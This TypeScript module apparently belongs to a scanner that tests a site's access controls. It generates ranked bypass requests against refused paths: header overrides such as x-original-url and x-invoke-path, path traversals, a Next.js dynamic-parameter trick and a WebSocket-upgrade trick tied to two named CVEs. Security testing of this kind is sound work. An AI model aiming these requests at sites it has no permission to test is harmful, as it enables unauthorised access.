/** Which tricks are tried on which URLs, in the order in which they are worth it. */
import type { Asked } from '../exchange.ts'
import type { SiteMap } from '../site-map.ts'
import { pathOf } from '../target.ts'
import { type FieldTrick, fieldTricks } from './field-tricks.ts'
import { dynamic, type PathTrick, pathTricks, traversals } from './path-tricks.ts'

export interface Aims {
  /** Plain requests that are refused, the best first: a page, then one of each other kind. */
  victims: Asked[]
  /** Paths that the owner has opened. */
  open: string[]
}

// Of these on, a trick is tried at every victim.
const EVERYWHERE = 5
const FIRST_VICTIMS = 5

/** All tricks there are for a site, the weightiest first. */
export function trickRequests({ victims, open }: Aims, map: SiteMap, random: string): Asked[] {
  const [first] = victims
  if (!first) return []
  const fields = fieldTricks(open[0] ?? `${map.base}/favicon.ico`, map.site.host, random)
  const pages = victims.filter(({ kind }) => kind === 'page')
  // A path with a name has more spellings than `/`.
  const named = [...pages, ...victims].find(({ target }) => pathOf(target) !== '/') ?? first
  const weighed = [
    ...victims
      .slice(0, FIRST_VICTIMS)
      .flatMap((victim, i) =>
        fields
          .filter(({ weight }) => i === 0 || weight >= EVERYWHERE)
          .map((trick) => ({ asked: byFields(victim, trick), weight: trick.weight - i * 0.9 })),
      ),
    ...spelled([...new Set([named, first])], open, map),
    ...traversals(map).map((trick) => ({ asked: byPath(first, trick), weight: trick.weight })),
    ...throughOpen(named, { victims, open }),
    { asked: upgrade(first, map), weight: 5 },
  ]
  return weighed.sort((a, b) => b.weight - a.weight).map(({ asked }) => asked)
}

function spelled(victims: Asked[], open: string[], map: SiteMap) {
  return victims.flatMap((victim, i) =>
    pathTricks(pathOf(victim.target), open.slice(0, 2), map)
      // Of `/` only what differs from every other path.
      .filter(({ weight }) => i === 0 || weight >= 7)
      .map((trick) => ({ asked: byPath(victim, trick), weight: trick.weight - i * 2 })),
  )
}

function byFields(victim: Asked, trick: FieldTrick): Asked {
  const { rule, trick: name, fields, isLoose, host, version, method } = trick
  return {
    ...victim,
    rule,
    trick: name,
    fields: [...victim.fields, ...fields],
    ...(isLoose && { isLoose }),
    ...(host !== undefined && { host }),
    ...(version && { version }),
    ...(method && { method }),
  }
}

function byPath(victim: Asked, { rule, trick, target }: PathTrick): Asked {
  return { ...victim, rule, trick, target }
}

/** An open path that is told to show a shut one; judged by whose texts it shows. */
function throughOpen(victim: Asked, { victims, open }: Aims) {
  const path = pathOf(victim.target)
  const named = ['x-original-url', 'x-rewrite-url', 'x-invoke-path', 'x-matched-path']
  const byField = open.slice(0, 2).flatMap((target) =>
    named.map((field): Asked => {
      const rule = /original|rewrite/.test(field) ? 'path-header' : 'internal-header'
      const fields: Asked['fields'] = [...victim.fields, [field, path]]
      return { ...victim, target, rule, trick: `${field} at an open path`, fields }
    }),
  )
  return [
    ...byField.map((asked) => ({ asked, weight: 5 })),
    ...open.flatMap((target) => besideOpen(target, victims)).map((asked) => ({ asked, weight: 8 })),
  ]
}

/** CVE-2026-44574: of two pages in one folder that one route draws, one is open. */
function besideOpen(open: string, victims: Asked[]): Asked[] {
  const folder = open.slice(0, open.lastIndexOf('/') + 1)
  const shut = victims.find(({ target, kind }) => {
    return kind === 'page' && folder !== '/' && /^[^/]+$/.test(target.replace(folder, ''))
  })
  if (!shut) return []
  const rule = 'dynamic-parameter'
  const target = `${open}?${dynamic(shut.target.slice(folder.length))}`
  return [{ ...shut, target, rule, trick: 'nxtP… parameters at an open path' }]
}

/**
 * CVE-2026-44578 (https://github.com/advisories/GHSA-c4j6-fc7j-m34r): an upgrade to a whole URL
 * makes Next.js fetch that. Of the host itself alone: no other is asked, by nobody.
 */
function upgrade(victim: Asked, { site }: SiteMap): Asked {
  return {
    ...victim,
    target: site.origin + pathOf(victim.target),
    rule: 'websocket-upgrade',
    trick: 'a WebSocket to a whole URL',
    fields: [
      ['Connection', 'Upgrade'],
      ['Upgrade', 'websocket'],
      ['Sec-WebSocket-Version', '13'],
      // The example of RFC 6455 §1.3.
      ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='],
    ],
    isLoose: true,
  }
}
